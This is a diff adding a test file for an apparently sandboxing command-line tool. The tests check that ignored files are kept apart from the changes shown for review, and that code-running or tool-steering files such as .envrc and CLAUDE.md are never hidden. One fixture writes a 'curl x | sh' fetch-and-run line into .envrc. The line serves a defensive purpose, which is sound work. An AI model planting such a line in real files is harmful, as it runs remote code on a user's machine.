@@ -1,0 +1,154 @@
+// Results a person can review (issue 8, item 7): what the workspace's .gitignore (as it was when
+// the run started) or the policy's filesystem.ignore names is kept apart (counted, summarised in
+// one audit event, applied only on request); a pod-written .gitignore never hides anything;
+// runs diff has --stat, --name-only and path filters; runs apply --only/--exclude; huge files.
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import path from 'node:path';
+import { before, test } from 'node:test';
+import { cli, policyFile, tmpDir, workspace } from './helpers.js';
+
+let home: string;
+before(() => { home = tmpDir('home'); });
+
+async function podRun(ws: string, script: string, extra: string[] = []): Promise<string> {
+  const r = await cli(['exec', ...extra, '--', 'bash', '-c', script], { home, cwd: ws, timeoutMs: 180_000 });
+  assert.equal(r.code, 0, r.stderr);
+  assert.ok(r.runId, r.stderr);
+  return r.runId;
+}
+
+async function ok(args: string[]): Promise<string> {
+  const r = await cli(args, { home, timeoutMs: 180_000 });
+  assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`);
+  return r.stdout;
+}
+
+function auditTypes(id: string): string[] {
+  const lines = fs.readFileSync(path.join(home, 'runs', id, 'audit.jsonl'), 'utf8').trim().split('\n');
+  return lines.map((l) => (JSON.parse(l) as { type: string }).type);
+}
+
+function auditEventsOf(id: string, type: string): Record<string, unknown>[] {
+  const lines = fs.readFileSync(path.join(home, 'runs', id, 'audit.jsonl'), 'utf8').trim().split('\n');
+  return lines.map((l) => JSON.parse(l) as { type: string; data: Record<string, unknown> }).filter((e) => e.type === type).map((e) => e.data);
+}
+
+const NPM_LIKE = [
+  'mkdir -p node_modules/pkg/lib src',
+  'for i in $(seq 1 2000); do echo "module.exports = $i" > node_modules/pkg/lib/f$i.js; done',
+  "printf 'export const a = 2;\\n' > src/a.ts",
+].join(' && ');
+
+test('ignored changes (node_modules/ in .gitignore) are counted, not shown, one audit event, not applied by default', async () => {
+  const ws = workspace({ '.gitignore': 'node_modules/\n', 'src/a.ts': 'export const a = 1;\n' });
+  const id = await podRun(ws, NPM_LIKE);
+  const diff = await ok(['runs', 'diff', id]);
+  assert.match(diff, /^diff --git a\/src\/a\.ts b\/src\/a\.ts$/m);
+  assert.doesNotMatch(diff, /node_modules\/pkg\/lib\/f1\.js/);
+  assert.match(diff, /clawpod: 2003 ignored changes \(node_modules\/; [\d.]+ [KMG]?i?B\) not shown: runs diff \S+ --include-ignored/);
+
+  const stat = await ok(['runs', 'diff', id, '--stat']);
+  assert.match(stat, /^ src\/a\.ts \| 2 \+-$/m);
+  assert.match(stat, /^ 1 file changed, 1 insertion\(\+\), 1 deletion\(-\)$/m);
+  assert.equal(await ok(['runs', 'diff', id, '--name-only']), 'src/a.ts\n');
+  const all = await ok(['runs', 'diff', id, '--name-only', '--include-ignored']);
+  assert.equal(all.split('\n').filter(Boolean).length, 1 + 2003);
+
+  const types = auditTypes(id);
+  assert.equal(types.filter((t) => t === 'file.write').length, 1, 'one file.write (src/a.ts), not 2000');
+  const [ignored] = auditEventsOf(id, 'files.ignored');
+  assert.ok(ignored, 'a files.ignored summary event');
+  assert.equal(ignored.count, 2003);
+  assert.match(String(ignored.sha256), /^[0-9a-f]{64}$/);
+
+  const apply = await ok(['runs', 'apply', id]);
+  assert.match(apply, /2003 ignored changes .*not applied/);
+  assert.equal(fs.readFileSync(path.join(ws, 'src/a.ts'), 'utf8'), 'export const a = 2;\n');
+  assert.equal(fs.existsSync(path.join(ws, 'node_modules')), false, 'ignored changes applied without being asked');
+  const show = await ok(['runs', 'show', id]);
+  assert.match(show, /2003 ignored/);
+  const again = await ok(['runs', 'apply', id, '--include-ignored']);
+  assert.match(again, /2003 ignored changes applied/);
+  assert.equal(fs.readFileSync(path.join(ws, 'node_modules/pkg/lib/f7.js'), 'utf8'), 'module.exports = 7\n');
+});
+
+test('a pod writing "*" into .gitignore hides none of its changes', async () => {
+  const ws = workspace({ '.gitignore': 'dist/\n', 'src/a.ts': 'one\n' });
+  const id = await podRun(ws, "printf '*\\n' > .gitignore && printf 'two\\n' > src/a.ts && echo x > evil.sh && mkdir -p dist && echo b > dist/b.js");
+  const names = await ok(['runs', 'diff', id, '--name-only']);
+  assert.deepEqual(names.split('\n').filter(Boolean), ['.gitignore', 'evil.sh', 'src/a.ts']);
+  const diff = await ok(['runs', 'diff', id]);
+  assert.match(diff, /^\+\*$/m);
+  assert.match(diff, /2 ignored changes \(dist\/;/);
+});
+
+test('ignore rules never hide a file that runs code or steers a tool (.envrc, .vscode/, CLAUDE.md)', async () => {
+  const ws = workspace({ '.gitignore': '.envrc\n.vscode/\nbuild/\n*.md\n' });
+  const id = await podRun(ws, 'echo "curl x | sh" > .envrc && mkdir -p .vscode build/sub && echo {} > .vscode/tasks.json && ' +
+    'echo obey > build/sub/CLAUDE.md && echo x > build/out.o && echo y > notes.md');
+  const names = (await ok(['runs', 'diff', id, '--name-only'])).split('\n').filter(Boolean);
+  for (const p of ['.envrc', '.vscode/tasks.json', 'build/sub/CLAUDE.md']) assert.ok(names.includes(p), `${p} hidden by ignore rules: ${names}`);
+  assert.ok(!names.includes('build/out.o') && !names.includes('notes.md'), names.join(','));
+});
+
+test('policy filesystem.ignore keeps paths apart too; policy explain says so', async () => {
+  const policy = policyFile('version: 1\nfilesystem:\n  ignore: ["coverage/", "*.log"]\n');
+  const ws = workspace({ 'a.txt': 'a\n' });
+  const id = await podRun(ws, 'mkdir -p coverage && echo c > coverage/lcov.info && echo l > npm-debug.log && echo b > a.txt', ['--policy', policy]);
+  assert.equal(await ok(['runs', 'diff', id, '--name-only']), 'a.txt\n');
+  const explain = await ok(['policy', 'explain', policy]);
+  assert.match(explain, /coverage\//);
+});
+
+test('runs diff path filters; runs apply --only / --exclude apply exactly the named paths, the rest stays pending', async () => {
+  const ws = workspace({ 'src/a.ts': '1\n', 'src/b.ts': '1\n', 'docs/x.md': '1\n', 'top.txt': '1\n' });
+  const id = await podRun(ws, 'for f in src/a.ts src/b.ts docs/x.md top.txt; do echo 2 > $f; done; echo new > src/c.ts');
+  assert.equal(await ok(['runs', 'diff', id, '--name-only', '--', 'src/']), 'src/a.ts\nsrc/b.ts\nsrc/c.ts\n');
+  assert.equal(await ok(['runs', 'diff', id, '--name-only', 'src/*.ts', 'top.txt']), 'src/a.ts\nsrc/b.ts\nsrc/c.ts\ntop.txt\n');
+
+  await ok(['runs', 'apply', id, '--only', 'src/a.ts,docs']);
+  assert.equal(fs.readFileSync(path.join(ws, 'src/a.ts'), 'utf8'), '2\n');
+  assert.equal(fs.readFileSync(path.join(ws, 'docs/x.md'), 'utf8'), '2\n');
+  assert.equal(fs.readFileSync(path.join(ws, 'src/b.ts'), 'utf8'), '1\n');
+  assert.equal(fs.existsSync(path.join(ws, 'src/c.ts')), false);
+  assert.equal(await ok(['runs', 'diff', id, '--name-only']), 'src/b.ts\nsrc/c.ts\ntop.txt\n');
+  assert.match(await ok(['runs', 'list']), new RegExp(`${id}.*pending`));
+
+  await ok(['runs', 'apply', id, '--exclude', 'top.txt']);
+  assert.equal(fs.readFileSync(path.join(ws, 'src/b.ts'), 'utf8'), '2\n');
+  assert.equal(fs.readFileSync(path.join(ws, 'src/c.ts'), 'utf8'), 'new\n');
+  assert.equal(fs.readFileSync(path.join(ws, 'top.txt'), 'utf8'), '1\n');
+  await ok(['runs', 'apply', id]);
+  assert.equal(fs.readFileSync(path.join(ws, 'top.txt'), 'utf8'), '2\n');
+  assert.match(await ok(['runs', 'list']), new RegExp(`${id}.*applied`));
+});
+
+test('unknown runs options and filters that match nothing are one line with the fix', async () => {
+  const ws = workspace({ 'a.txt': 'a\n' });
+  const id = await podRun(ws, 'echo b > a.txt');
+  const bad = await cli(['runs', 'diff', id, '--stats'], { home });
+  assert.equal(bad.code, 125);
+  assert.equal(bad.stderr.trim().split('\n').length, 1, bad.stderr);
+  assert.match(bad.stderr, /--stats.*--stat/);
+  const none = await cli(['runs', 'apply', id, '--only', 'nope/'], { home });
+  assert.equal(none.code, 125);
+  assert.match(none.stderr, /matches no change/);
+});
+
+test('a 200k-line file diff completes: summarised by default, shown with --full', async () => {
+  const ws = workspace({});
+  fs.writeFileSync(path.join(ws, 'big.txt'), Array.from({ length: 200_000 }, (_, i) => `line ${i}`).join('\n') + '\n');
+  const id = await podRun(ws, "sed -i 's/^line \\([0-9]*7\\)$/LINE \\1/' big.txt && seq 1 200000 > new.txt");
+  const t0 = Date.now();
+  const diff = await ok(['runs', 'diff', id]);
+  assert.match(diff, /big\.txt.*too large to show.*--full/);
+  assert.ok(diff.length < 100_000, `default diff is ${diff.length} bytes`);
+  const stat = await ok(['runs', 'diff', id, '--stat']);
+  assert.match(stat, /^ new\.txt \| 200000 \++$/m);
+  const full = await ok(['runs', 'diff', id, '--full']);
+  assert.match(full, /^-line 17$/m);
+  assert.match(full, /^\+LINE 199997$/m);
+  assert.match(full, /^\+199999$/m);
+  assert.ok(Date.now() - t0 < 120_000, 'diffs of 200k-line files took over two minutes');
+});
